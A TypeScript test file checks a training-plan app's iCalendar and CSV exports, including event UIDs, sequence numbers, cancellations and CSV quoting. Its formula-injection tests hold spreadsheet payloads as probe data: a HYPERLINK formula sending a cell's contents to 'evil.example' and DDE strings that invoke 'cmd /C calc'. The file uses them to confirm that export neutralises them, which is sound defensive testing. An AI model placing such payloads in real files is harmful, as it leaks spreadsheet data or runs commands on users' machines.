import ICAL from 'ical.js';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { reviseCalendar } from '../../../../src-main/common/domain/export/calendar-sequence';
import { buildCsv, CSV_COLUMNS, neutraliseFormula } from '../../../../src-main/common/domain/export/csv';
import { buildIcs, calendarEvent, calendarUid } from '../../../../src-main/common/domain/export/ics';
import { FIXED_STAMP, fixedPlan, HR_ZONE_2_STEP } from './export-fixture';
import { expectGolden } from './golden';

function icsEvents(text: string) {
  const calendar = new ICAL.Component(ICAL.parse(text));
  return calendar.getAllSubcomponents('vevent').map((vevent) => {
    const event = new ICAL.Event(vevent);
    return {
      uid: event.uid,
      summary: event.summary,
      start: event.startDate.toString(),
      sequence: event.sequence,
      status: vevent.getFirstPropertyValue('status'),
      description: event.description,
    };
  });
}

const range = { from: '2027-01-04', to: '2027-01-17' };

function exportOnce(plan = fixedPlan(), previously: Parameters<typeof reviseCalendar>[1] = []) {
  const events = plan.sessions.map((s) => calendarEvent(plan, s));
  const revision = reviseCalendar(
    events,
    previously,
    new Set(plan.sessions.map((s) => calendarUid(plan.planId, s.id))),
    range,
  );
  return { ics: buildIcs(revision.entries, { name: 'Ana Ruiz: sample', stamp: FIXED_STAMP }), sent: revision.sent };
}

describe('iCalendar export', () => {
  it('parses with ical.js into one event per session with title, day, steps, phase and week', () => {
    const { ics } = exportOnce();
    const events = icsEvents(ics);
    const plan = fixedPlan();
    expect(events).toHaveLength(plan.sessions.length);
    const first = events[0]!;
    expect(first.uid).toBe('plan-7-session-101@coach-workstation');
    expect(first.start).toBe('2027-01-05');
    expect(first.summary).toBe('Bike: Sweet spot 2×20 min (1 h 15 min)');
    expect(first.description).toContain('Week 1 · base phase · Half marathon 2027: 2-week sample');
    expect(first.description).toContain(
      '- 2 × (20 min @ 88–93 % FTP (229–242 W) (sweet spot), Recovery 5 min @ 50–55 % FTP (130–143 W))',
    );
    expect(events.find((e) => e.uid === 'plan-7-session-110@coach-workstation')!.description).toContain(
      `- ${HR_ZONE_2_STEP} (stay in zone 2`,
    );
    expect(events.every((e) => e.sequence === 0 && e.status === 'CONFIRMED')).toBe(true);
    for (const line of ics.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    expectGolden('plan.ics', ics);
  });

  it('keeps UIDs and sequences on an unchanged re-export, raises the sequence only of a changed session, and cancels a removed one', () => {
    const first = exportOnce();
    const again = exportOnce(fixedPlan(), first.sent);
    expect(again.ics).toBe(first.ics);

    const plan = fixedPlan();
    plan.sessions = plan.sessions
      .filter((s) => s.id !== 104)
      .map((s) => (s.id === 102 ? { ...s, date: '2027-01-08' } : s));
    const changed = icsEvents(exportOnce(plan, first.sent).ics);
    const byUid = new Map(changed.map((e) => [e.uid, e]));
    expect(byUid.get(calendarUid(7, 102))).toMatchObject({ start: '2027-01-08', sequence: 1, status: 'CONFIRMED' });
    expect(byUid.get(calendarUid(7, 101))).toMatchObject({ sequence: 0 });
    expect(byUid.get(calendarUid(7, 104))).toMatchObject({ start: '2027-01-09', sequence: 1, status: 'CANCELLED' });
    expect(changed).toHaveLength(first.sent.length);
  });
});

describe('calendar revisions', () => {
  it('keeps a cancelled session cancelled at the same sequence on later exports, and leaves sessions outside the range alone', () => {
    const first = exportOnce();
    const plan = fixedPlan();
    plan.sessions = plan.sessions.filter((s) => s.id !== 104);
    const second = exportOnce(plan, first.sent);
    const third = icsEvents(exportOnce(plan, second.sent).ics).find((e) => e.uid === calendarUid(7, 104));
    expect(third).toMatchObject({ status: 'CANCELLED', sequence: 1 });

    const events = plan.sessions.filter((s) => s.date >= '2027-01-11').map((s) => calendarEvent(plan, s));
    const weekTwo = reviseCalendar(events, second.sent, new Set(plan.sessions.map((s) => calendarUid(7, s.id))), {
      from: '2027-01-11',
      to: '2027-01-17',
    });
    expect(weekTwo.entries.every((e) => !e.cancelled && e.event.date >= '2027-01-11')).toBe(true);
  });
});

describe('CSV export', () => {
  it('round-trips through a CSV parser with one row per session', () => {
    const plan = fixedPlan();
    const csv = buildCsv(plan, plan.sessions);
    const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
    expect(csv.startsWith('\ufeffdate,weekday,')).toBe(true);
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(plan.sessions.length);
    expect(rows.map((r) => r.workout)).toEqual(plan.sessions.map((s) => s.name));
    expect(rows[0]).toMatchObject({
      date: '2027-01-05',
      weekday: 'Tuesday',
      week: '1',
      phase: 'base',
      sport: 'bike',
      planned_minutes: '75',
    });
    expect(rows[0]!.steps).toContain('20 min @ 88–93 % FTP (229–242 W)');
    expect(rows.find((r) => r.date === '2027-01-08')!.steps).toContain(HR_ZONE_2_STEP);
    // Every row carries its week's planned distance per sport; a sport planned without distance stays empty.
    const [week1, week2] = plan.weeks;
    const inWeek1 = rows.filter((r) => r.week === '1');
    expect(
      inWeek1.every(
        (r) =>
          r.week_run_km === week1!.plannedDistanceKm.run!.toFixed(1) &&
          r.week_swim_km === week1!.plannedDistanceKm.swim!.toFixed(1),
      ),
    ).toBe(true);
    expect(rows.every((r) => r.week_bike_km === '')).toBe(true);
    const week1RunKm = inWeek1.filter((r) => r.sport === 'run').reduce((sum, r) => sum + Number(r.planned_km), 0);
    expect(Number(inWeek1[0]!.week_run_km)).toBeCloseTo(week1RunKm, 1);
    expect(rows.find((r) => r.week === '2')!.week_run_km).toBe(week2!.plannedDistanceKm.run!.toFixed(1));
    expectGolden('plan.csv', csv);
  });

  it('keeps cells that look like formulas as text', () => {
    const plan = fixedPlan();
    plan.sessions[0] = { ...plan.sessions[0]!, name: '=HYPERLINK("x")' };
    const rows = parse(buildCsv(plan, plan.sessions), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows[0]!.workout).toBe('\'=HYPERLINK("x")');
  });

  it.each([
    ['a formula after a negative number', '-1+HYPERLINK("http://evil.example/?"&A1,"x")'],
    ['a DDE command after a sum', "-2+3+cmd|' /C calc'!A0"],
    ['a tab first', '\t=1+1'],
    ['a space first', ' =1+1'],
    ['a carriage return first', '\r=1+1'],
    ['a line feed first', '\n=1+1'],
    ['an at sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['a plus sign', '+1+1'],
  ])('keeps %s as text in every coach-written cell', (_, probe) => {
    const plan = fixedPlan();
    plan.sessions[0] = {
      ...plan.sessions[0]!,
      name: probe,
      definition: { ...plan.sessions[0]!.definition, description: probe },
    };
    const rows = parse(buildCsv(plan, plan.sessions), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows[0]!.workout).toBe(`'${probe}`);
    expect(rows[0]!.description).toBe(`'${probe}`);
  });

  it('quotes a cell holding a comma, a quote or any line break, so it stays one cell of one row', () => {
    const plan = fixedPlan();
    const name = 'Hills, "steady"';
    const description = 'Hills\nthen flat\rthen home';
    plan.sessions[0] = { ...plan.sessions[0]!, name, definition: { ...plan.sessions[0]!.definition, description } };
    const csv = buildCsv(plan, plan.sessions);
    expect(csv).toContain(',"Hills, ""steady""",');
    expect(csv).toContain(',"Hills\nthen flat\rthen home",');
    const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(plan.sessions.length);
    expect(rows[0]).toMatchObject({ workout: name, description });
  });

  it('leaves plain numbers, negative ones included, as numbers a spreadsheet can sum', () => {
    for (const value of ['0', '75', '12.50', '-5', '-0.5']) expect(neutraliseFormula(value)).toBe(value);
    expect(neutraliseFormula('-5 km')).toBe("'-5 km");
    expect(neutraliseFormula('-.5')).toBe("'-.5");
  });
});
